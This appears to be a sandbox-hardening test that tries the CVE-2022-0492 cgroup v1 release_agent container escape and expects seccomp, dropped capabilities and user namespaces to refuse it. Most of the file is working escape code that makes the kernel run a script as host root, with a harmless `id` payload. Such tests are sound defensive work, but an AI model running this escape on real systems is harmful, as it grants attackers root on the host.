"""A cgroup v1 hierarchy is mounted; a group that becomes empty makes the kernel
start the release_agent, a program of the attacker's, as root on the host
(CVE-2022-0492).

Blocked by the seccomp list, which refuses mount() to a cell; by no
capabilities; by a user namespace that owns nothing of the host.
"""
import ctypes
import os
import time

WANTS = ("call.denied", "mount")
BARE = "root"

libc = ctypes.CDLL(None, use_errno=True)
at, proof = "/tmp/a10-cgroup", "/tmp/a10-proof"
agent = "/tmp/a10-agent"


def attack():
    os.makedirs(at, exist_ok=True)
    with open(agent, "w") as f:
        f.write(f"#!/bin/sh\nid >{proof}\n")
    os.chmod(agent, 0o755)
    if libc.mount(b"none", at.encode(), b"cgroup", 0, b"none,name=a10") < 0:
        raise OSError(ctypes.get_errno(), "mount a cgroup v1 hierarchy")
    try:
        os.mkdir(f"{at}/x")
        for file, text in (("release_agent", agent), ("x/notify_on_release", "1"),
                           ("x/cgroup.procs", None)):
            pid = 0 if text else os.fork()
            if text is None and pid == 0:
                with open(f"{at}/{file}", "w") as f:
                    f.write("0")
                os._exit(0)
            if text:
                with open(f"{at}/{file}", "w") as f:
                    f.write(text)
            else:
                os.waitpid(pid, 0)
        for _ in range(100):
            if os.path.exists(proof) and os.path.getsize(proof):
                return open(proof).read().strip()
            time.sleep(0.1)
        raise OSError(0, "the agent was not started")
    finally:
        try:
            os.rmdir(f"{at}/x")
        except OSError:
            pass
        libc.umount2(at.encode(), 2)


try:
    print("ESCAPED: the kernel ran a program for us:", attack())
except OSError as e:
    print("refused:", e)
